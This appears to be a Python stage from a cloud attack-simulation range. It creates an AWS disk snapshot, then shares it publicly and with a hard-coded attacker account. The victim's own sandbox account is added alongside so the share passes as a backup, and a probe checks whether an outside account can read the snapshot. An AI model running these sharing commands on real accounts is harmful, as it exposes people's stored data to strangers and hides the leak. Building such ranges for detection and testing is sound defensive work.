"""A snapshot of a disk with other people's data is shared with everybody, and with an account of the attacker's."""

from __future__ import annotations

from typing import Any

from quell_range.attacks.stage import Made, Stage, tried

#: An account that is nobody's here.
ATTACKER = "999911112222"


def prepare(stage: Stage) -> Made:
    ec2 = stage.client("ec2")
    volume = ec2.create_volume(Size=8, AvailabilityZone=f"{stage.region}a")["VolumeId"]
    snapshot = ec2.create_snapshot(VolumeId=volume, Description=f"orders-{stage.mark}")["SnapshotId"]
    return {"resource": snapshot}


def attack(stage: Stage, made: Made) -> None:
    words = ("ec2", "modify-snapshot-attribute", "--snapshot-id", made["resource"], "--attribute", "createVolumePermission", "--operation-type", "add")
    stage.aws(*words, "--group-names", "all")
    # With one of the victim's own beside it, it looks like a backup.
    stage.aws(*words, "--user-ids", ATTACKER, _sibling(stage)["id"])


def read(stage: Stage, made: Made) -> Any:
    told = stage.client("ec2").describe_snapshot_attribute(SnapshotId=made["resource"], Attribute="createVolumePermission")
    return sorted(str(one.get("Group") or one["UserId"]) for one in told["CreateVolumePermissions"])


def probe(stage: Stage, made: Made) -> str:
    """Whether somebody of an account that it was never given to sees it."""
    stranger = next(a for a in stage.info["accounts"] if a["id"] not in (stage.account["id"], _sibling(stage)["id"]))
    return tried(stage.client("ec2", dict(stranger["developer"])).describe_snapshots, SnapshotIds=[made["resource"]])


def _sibling(stage: Stage) -> dict[str, Any]:
    """Another account that is looked after."""
    return dict(next(a for a in stage.info["accounts"] if a["environment"] == "sandbox"))
